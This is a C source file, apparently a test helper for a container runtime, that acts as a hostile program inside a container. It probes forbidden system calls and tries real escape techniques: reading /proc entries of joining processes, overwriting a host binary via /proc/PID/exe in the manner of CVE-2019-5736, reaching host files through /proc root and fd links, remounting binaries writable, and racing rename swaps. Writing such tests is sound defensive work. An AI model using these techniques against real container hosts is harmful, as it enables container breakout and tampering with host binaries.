/*
 * What a hostile program in a container tries. `attack calls` makes system calls that no container should be able to
 * make, with arguments that can do no harm should it be allowed, and says what came of each. `attack stages` lies in
 * wait for processes that are about to join the container, and tries to open what they have open. `attack join` does so with
 * CAP_SYS_PTRACE, which is the right to, and looks for a way to a file of the host. `attack capture` keeps the programs that
 * others run and writes to them when they have ended. `attack swap` exchanges two names for ever. `attack overwrite`,
 * `attack identity` and `attack session` are what their names say.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NO_RANDOM_LAYOUT 0x0040000
#define MANY_SEGMENTS 0x100000
#define FAMILY_VSOCK 40
#define FAMILY_CRYPTO 38

static void say(const char *name, long result)
{
	printf("%s %d\n", name, result < 0 ? errno : 0);
}

#define TRY(name, ...) say(#name, syscall(SYS_##name, ##__VA_ARGS__))

static void mounts(void)
{
	TRY(mount, "none", "/nonexistent", "tmpfs", 0, NULL);
	TRY(umount2, "/nonexistent", 0);
	TRY(pivot_root, "/nonexistent", "/nonexistent");
	TRY(fsopen, "no-such-file-system", 0);
	TRY(open_tree, -1, "", 0);
	TRY(move_mount, -1, "", -1, "", 0);
	TRY(mount_setattr, -1, "", 0, NULL, 0);
	TRY(fspick, -1, "", 0);
	TRY(quotactl, 0, NULL, 0, NULL);
	TRY(swapon, "/nonexistent", 0);
	TRY(swapoff, "/nonexistent");
	TRY(open_by_handle_at, -1, NULL, 0);
	TRY(fanotify_init, ~0u, 0);
}

static void namespaces(void)
{
	pid_t child = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	if (child == 0)
		_exit(0);
	say("clone(CLONE_NEWUSER)", child);
	say("unshare(CLONE_NEWUSER)", syscall(SYS_unshare, CLONE_NEWUSER));
	say("setns", syscall(SYS_setns, -1, 0));
	say("clone3", syscall(SYS_clone3, NULL, 0));
}

static void kernel(void)
{
	TRY(kexec_load, 0, MANY_SEGMENTS, NULL, 0);
	TRY(init_module, NULL, 0, "");
	TRY(finit_module, -1, "", 0);
	TRY(delete_module, "no_such_module", O_NONBLOCK);
	TRY(reboot, 0, 0, 0, NULL);
	TRY(bpf, -1, NULL, 0);
	TRY(perf_event_open, NULL, 0, -1, -1, 0);
	TRY(userfaultfd, ~0u);
	TRY(io_uring_setup, 0, NULL);
	TRY(acct, "/nonexistent");
	TRY(syslog, -1, NULL, 0);
	TRY(settimeofday, NULL, (void *)8);
	TRY(clock_settime, -1, NULL);
	TRY(kcmp, 0, 0, -1, 0, 0);
	TRY(pidfd_getfd, -1, -1, 0);
	TRY(add_key, "user", "", NULL, 0, 0);
	TRY(request_key, "no-such-type", "", NULL, 0);
	say("keyctl(session keyring)", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
#ifdef __x86_64__
	TRY(iopl, 4);
	TRY(ioperm, 0x10000, 1, 1);
	TRY(uselib, "/nonexistent");
#endif
}

static void arguments(void)
{
	say("personality(ADDR_NO_RANDOMIZE)", syscall(SYS_personality, NO_RANDOM_LAYOUT));
	say("socket(AF_VSOCK)", syscall(SYS_socket, FAMILY_VSOCK, SOCK_STREAM, 0));
	say("socket(AF_VSOCK,high-bits)", syscall(SYS_socket, 0x100000000ul | FAMILY_VSOCK, SOCK_STREAM, 0));
	say("socket(AF_ALG)", syscall(SYS_socket, FAMILY_CRYPTO, SOCK_SEQPACKET, 0));
}

/* The same kernel has two more doors on this machine: the 32-bit calls, and the x32 ones. */
static void other_doors(void)
{
#ifdef __x86_64__
	long result;

	__asm__ volatile("int $0x80" : "=a"(result) : "a"(310L), "b"((long)CLONE_NEWUSER) : "memory");
	errno = (int)-result;
	say("i386:unshare", result < 0 ? -1 : 0);
	say("x32:unshare", syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER));
#endif
}

static int calls(void)
{
	mounts();
	namespaces();
	kernel();
	arguments();
	other_doors();
	return 0;
}

static bool is_stage(const char *pid)
{
	char path[64], name[32] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%.20s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	if (read(fd, name, sizeof name - 1) < 0)
		name[0] = '\0';
	close(fd);
	return strncmp(name, "coffer", 6) == 0;
}

/* Opens what it can of a process; says each success. */
static void rob(const char *pid)
{
	static const char *const files[] = { "exe", "root", "cwd", "fd/0", "fd/3", "mem", "environ", "maps" };
	char path[64];

	for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
		snprintf(path, sizeof path, "/proc/%.20s/%s", pid, files[i]);
		int fd = open(path, O_RDONLY);

		/* It may have become a program of the container's own in the meantime, which is nothing to rob. */
		if (fd >= 0 && is_stage(pid))
			printf("opened %s\n", files[i]);
		if (fd >= 0)
			close(fd);
	}
}

static int stages(int seconds)
{
	time_t end = time(NULL) + seconds;
	unsigned seen = 0;

	while (time(NULL) < end) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;

		while (processes && (entry = readdir(processes)) != NULL)
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && is_stage(entry->d_name)) {
				seen++;
				rob(entry->d_name);
			}
		if (processes)
			closedir(processes);
	}
	printf("seen %u\n", seen);
	return 0;
}

/* Writes into the program file that a process of ours was started from, by its magic link (CVE-2019-5736). */
static int overwrite(const char *pid)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
	say("overwrite", open(path, O_WRONLY | O_APPEND));
	return 0;
}

/* Whether a way leads to a file of the host, from wherever in its tree. */
static bool reaches(const char *way, const char *witness)
{
	char path[512];

	snprintf(path, sizeof path, "%s/../../../../../../../../../..%s", way, witness);
	return access(path, F_OK) == 0;
}

/* Whoever comes next in this pid namespace: it is there before anybody can have told of it. */
static int newcomer(int *last)
{
	for (int pid = *last + 1; pid <= *last + 8; pid++) {
		if (kill(pid, 0) == 0 || errno == EPERM) {
			*last = pid;
			return pid;
		}
	}
	return 0;
}

static int join(const char *witness, int seconds)
{
	time_t end = time(NULL) + seconds;
	unsigned seen = 0;
	int last = getpid();

	printf("ready\n");
	while (time(NULL) < end) {
		int pid = newcomer(&last);

		seen += pid != 0;
		while (pid && kill(pid, 0) == 0) {
			char way[64];

			for (int i = -2; i < 16; i++) {
				if (i < 0)
					snprintf(way, sizeof way, "/proc/%d/%s", pid, i == -1 ? "root" : "cwd");
				else
					snprintf(way, sizeof way, "/proc/%d/fd/%d", pid, i);
				if (reaches(way, witness))
					printf("reached the host by %s\n", strchr(way + 6, '/'));
			}
		}
	}
	printf("seen %u\n", seen);
	return 0;
}

/* A program that is run by a read-only mount of its own: whoever may mount could take that from it. */
static void make_writable(int program)
{
	const struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	int copy = (int)syscall(SYS_open_tree, program, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);

	if (syscall(SYS_mount_setattr, program, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0 ||
	    (copy >= 0 && syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0))
		printf("made writable\n");
	if (copy >= 0)
		close(copy);
}

/* Keeps the program of each newcomer that is no program of the container's, and writes to it when nobody runs it. */
static int capture(int seconds)
{
	time_t end = time(NULL) + seconds;
	int last = getpid();
	struct stat own;

	if (stat("/bin/busybox", &own) < 0)
		return 1;
	printf("ready\n");
	while (time(NULL) < end) {
		int pid = newcomer(&last);
		int kept = -1;

		while (pid && kill(pid, 0) == 0) {
			char way[64];
			struct stat theirs;
			int exe;

			snprintf(way, sizeof way, "/proc/%d/exe", pid);
			exe = kept < 0 ? open(way, O_RDONLY) : -1;
			if (exe >= 0 && fstat(exe, &theirs) == 0 && (theirs.st_dev != own.st_dev || theirs.st_ino != own.st_ino))
				kept = exe;
			else if (exe >= 0)
				close(exe);
		}
		if (kept >= 0) {
			char way[64];
			int again;

			make_writable(kept);
			snprintf(way, sizeof way, "/proc/self/fd/%d", kept);
			again = open(way, O_WRONLY);
			say("captured", again < 0 ? -1 : write(again, "#", 1));
			if (again >= 0)
				close(again);
			close(kept);
		}
	}
	return 0;
}

static int swap(const char *one, const char *other)
{
	printf("ready\n");
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2) < 0) {
			say("swap", -1);
			return 1;
		}
}

static int session(void)
{
	char text[256] = "";

	if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof text - 1) < 0)
		say("session", -1);
	else
		printf("%s\n", text);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 1 && strcmp(argv[1], "calls") == 0)
		return calls();
	if (argc > 2 && strcmp(argv[1], "stages") == 0)
		return stages(atoi(argv[2]));
	if (argc > 2 && strcmp(argv[1], "overwrite") == 0)
		return overwrite(argv[2]);
	if (argc > 1 && strcmp(argv[1], "identity") == 0)
		return printf("%d\n", (int)geteuid()) < 0;
	if (argc > 3 && strcmp(argv[1], "join") == 0)
		return join(argv[2], atoi(argv[3]));
	if (argc > 2 && strcmp(argv[1], "capture") == 0)
		return capture(atoi(argv[2]));
	if (argc > 3 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc > 1 && strcmp(argv[1], "session") == 0)
		return session();
	fprintf(stderr, "attack: calls, identity, session, stages SECONDS, join WITNESS SECONDS, capture SECONDS, swap ONE OTHER, or overwrite PID\n");
	return 2;
}
